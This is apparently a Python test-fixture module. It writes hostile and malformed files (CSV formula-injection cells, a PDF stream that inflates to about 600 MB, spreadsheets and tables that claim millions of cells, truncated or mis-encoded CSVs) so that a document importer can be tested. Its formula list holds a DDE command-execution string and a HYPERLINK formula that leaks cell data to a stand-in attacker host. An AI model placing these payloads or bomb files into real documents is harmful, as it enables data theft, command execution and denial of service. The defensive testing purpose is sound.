"""Hostile and faulty inputs, built on demand into a test's temporary folder.

Each builder writes one file the way an attacker or a broken tool would and returns its path;
the tests assert the exact outcome (text kept as text, a one-line error, a warning with a code,
memory under the stated bound). Builders: formula text (CSV); tiny files describing huge tables
(an xlsx cell at XFD1048576, an xlsx of a million cells, a Word gridBefore, HTML row and column
spans, OpenDocument repeats, a PDF stream that inflates to hundreds of megabytes (also
encrypted with an empty password), a PDF page of
60,000 boxes); and faults that lose text quietly (HTML nested past the parser's depth limit, a
CSV of 5,006 headers, NUL bytes after the first 64 KB, one stray Windows-1252 byte, files cut
short mid-row).
"""

from __future__ import annotations

import csv
import zipfile
import zlib
from pathlib import Path

# text a spreadsheet program would run, open or reinterpret if written as it is
FORMULA_TEXTS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+44 1524 582000 call us",
    "-2+3 review the budget",
    "http://evil.example/update",
    "mailto:someone@example.org",
    "external:c:\\windows\\system32",
    "\t=1+1 tab first",
    "\r=2+2 carriage return first",
)
LONG_CELL = "Progress is slow. " * 2500  # 45,000 characters: over Excel's 32,767


def formula_plan(folder: Path) -> Path:
    """A CSV plan whose every text cell is one of FORMULA_TEXTS, and one update over Excel's
    cell limit."""
    texts = iter(FORMULA_TEXTS * 3)
    rows = [["Recommendation", "Action", "Timescale", "Lead", "Status", "Update"]]
    for rec in (1, 2):
        for first in (True, False):
            recommendation = f"{rec}. {next(texts)}" if first else ""
            rows.append(
                [recommendation, next(texts), "March 2025", next(texts), "Green", next(texts)]
            )
    rows.append(
        ["3. Keep every word", "Write the long update", "June 2025", "", "Amber", LONG_CELL]
    )
    path = folder / "hostile-formulas.csv"
    with path.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(rows)
    return path


# -- tiny files that describe huge tables (issue 16, item 2) -----------------------------------

PLAN_HEADER = ("Recommendation", "Action", "Timescale", "Lead", "Status")


def far_cell_xlsx(folder: Path) -> Path:
    """An 8 KB workbook whose used area runs from A1 to XFD1048576 (one cell at each corner)."""
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(PLAN_HEADER)
    sheet["XFD1048576"] = "x"
    path = folder / "far-cell.xlsx"
    workbook.save(path)
    return path


def many_cells_xlsx(folder: Path, cells: int = 1_100_000) -> Path:
    """A workbook of ``cells`` small cells (a few MB compressed), written without openpyxl."""
    path = folder / "many-cells.xlsx"
    sheet_ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel_ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _XLSX_TYPES)
        package.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{rel_ns}"><Relationship Id="rId1" '
            f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        package.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{sheet_ns}" xmlns:r="{office}"><sheets><sheet name="Plan" '
            'sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        package.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{rel_ns}"><Relationship Id="rId1" '
            f'Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        with package.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(f'<worksheet xmlns="{sheet_ns}"><sheetData>'.encode())
            row = "<row>" + '<c t="n"><v>1</v></c>' * 10 + "</row>"
            sheet.write((row * (cells // 10)).encode())
            sheet.write(b"</sheetData></worksheet>")
    return path


_XLSX_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)


def grid_before_docx(folder: Path, skip: int = 100_000_000) -> Path:
    """A Word table whose second row starts ``skip`` grid columns to the right (gridBefore)."""
    import docx
    from docx.oxml import parse_xml

    document = docx.Document()
    table = document.add_table(rows=2, cols=2)
    for cell, text in zip(table.rows[0].cells, ("Action", "Lead"), strict=True):
        cell.text = text
    table.rows[1].cells[0].text = "Shifted far right"
    row = table.rows[1]._tr
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    row.insert(0, parse_xml(f'<w:trPr xmlns:w="{w}"><w:gridBefore w:val="{skip}"/></w:trPr>'))
    path = folder / "grid-before.docx"
    document.save(str(path))
    return path


def span_html(folder: Path, rows: int = 600) -> Path:
    """A ~50 KB page whose table cells each span 1,000 rows and 1,000 columns."""
    cells = "".join(
        f'<tr><td rowspan="1000" colspan="1000">Action {r}</td></tr>' for r in range(rows)
    )
    path = folder / "spans.html"
    path.write_text(
        f"<html><body><table><tr><th>Action</th><th>Lead</th></tr>{cells}</table></body></html>",
        encoding="utf-8",
    )
    return path


_ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)
_REPEATED_ROW = (
    '<table:table-row table:number-rows-repeated="1048576">'
    '<table:table-cell table:number-columns-repeated="16384" office:value-type="string">'
    "<text:p>x</text:p></table:table-cell></table:table-row>"
)


def _odf(path: Path, mimetype: str, body: str) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("mimetype", mimetype)
        package.writestr(
            "content.xml",
            f'<?xml version="1.0"?><office:document-content {_ODF_NS}>'
            f"<office:body>{body}</office:body></office:document-content>",
        )
    return path


def repeated_ods(folder: Path) -> Path:
    """A 1 KB spreadsheet: one text cell repeated over 16,384 columns and 1,048,576 rows."""
    body = f'<office:spreadsheet><table:table table:name="Plan">{_REPEATED_ROW}</table:table>'
    return _odf(
        folder / "repeated.ods",
        "application/vnd.oasis.opendocument.spreadsheet",
        body + "</office:spreadsheet>",
    )


def repeated_odt(folder: Path) -> Path:
    """The same repeated row in a text document's table."""
    body = f"<office:text><table:table>{_REPEATED_ROW}</table:table></office:text>"
    return _odf(folder / "repeated.odt", "application/vnd.oasis.opendocument.text", body)


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF file of numbered ``objects`` (1-based) with a cross-reference table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def _page_pdf(path: Path, content: bytes) -> Path:
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content)
    path.write_bytes(
        _pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 842 595] /Contents 4 0 R >>",
                stream + content + b"\nendstream",
            ]
        )
    )
    return path


def inflating_pdf(folder: Path, inflated: int = 600 * 1024 * 1024) -> Path:
    """A PDF of well under 1 MB whose one content stream inflates to ``inflated`` bytes."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 20)
    content = b"".join(packer.compress(block) for _ in range(inflated >> 20)) + packer.flush()
    return _page_pdf(folder / "inflating.pdf", content)


def encrypted_inflating_pdf(folder: Path) -> Path:
    """:func:`inflating_pdf` encrypted (AES-256) with an empty user password, as a council's
    "restrict editing" setting writes it: anyone can open it, but its streams are ciphertext,
    which no scan of the file's bytes can measure."""
    import pikepdf

    plain = inflating_pdf(folder)
    path = folder / "encrypted-inflating.pdf"
    with pikepdf.open(plain) as document:
        document.save(path, encryption=pikepdf.Encryption(user="", owner="council-only", R=6))
    plain.unlink()
    return path


def busy_pdf(folder: Path, rectangles: int = 60_000) -> Path:
    """A one-page PDF that draws ``rectangles`` tiny filled boxes (five path segments each)."""
    ops = b"".join(b"%d %d 1 1 re f\n" % (i % 800, i % 500) for i in range(rectangles))
    return _page_pdf(folder / "busy.pdf", zlib.compress(ops))


# -- nothing lost without a word (issue 16, items 4 and 9) -------------------------------------


def deep_html(folder: Path, depth: int) -> Path:
    """A table whose second row nests ``depth`` divs in its first cell; a third row after it."""
    nested = "<div>" * depth + "deep text" + "</div>" * depth
    path = folder / f"deep-{depth}.html"
    path.write_text(
        "<html><body><table><tr><th>Recommendation</th><th>Action</th></tr>"
        f"<tr><td>1. Nest</td><td>{nested}</td></tr>"
        "<tr><td>2. After the nesting</td><td>Still read</td></tr></table></body></html>",
        encoding="utf-8",
    )
    return path


def wide_csv(folder: Path, headers: int = 5006) -> Path:
    """A CSV whose first row holds ``headers`` headers, none of them a plan's."""
    path = folder / "wide.csv"
    row = ",".join(f"Column {n}" for n in range(headers))
    path.write_text(f"{row}\n{row}\n", encoding="utf-8")
    return path


def _plan_lines(count: int) -> list[str]:
    lines = [",".join(PLAN_HEADER)]
    lines += [
        f"{n}. Recommendation {n},Action {n},March 2025,Head of Policy,Green"
        for n in range(1, count + 1)
    ]
    return lines


def nul_csv(folder: Path) -> Path:
    """A plan over 64 KB with NUL bytes and a stray control character after the first 64 KB."""
    text = "\n".join(_plan_lines(1500)) + "\n"
    data = text.encode() + b"1501. Late\x00 recommendation,Act\x00ion\x07,June 2025,Lead,Amber\n"
    path = folder / "nul.csv"
    path.write_bytes(data)
    return path


def one_bad_byte_csv(folder: Path) -> Path:
    """A UTF-8 plan ("council’s") with one Windows-1252 byte (0x92) on line 3."""
    data = (
        "Recommendation,Action,Timescale\n"
        "1. Improve the council’s finances,Agree a budget,March 2025\n"
    ).encode() + b"2. Plan the council\x92s estate,Review assets,June 2025\n"
    path = folder / "bad-byte.csv"
    path.write_bytes(data)
    return path


def truncated_csvs(folder: Path) -> tuple[Path, Path]:
    """Two plans cut short: inside a quoted field, and mid-line on a short last line."""
    whole = "\n".join(_plan_lines(4)) + "\n"
    quoted = whole + '5. Recommendation 5,"Action 5, then a long update cut'
    short = whole + "5. Recommendation 5,Action"
    paths = (folder / "cut-in-quote.csv", folder / "cut-mid-line.csv")
    for path, text in zip(paths, (quoted, short), strict=True):
        path.write_text(text, encoding="utf-8")
    return paths
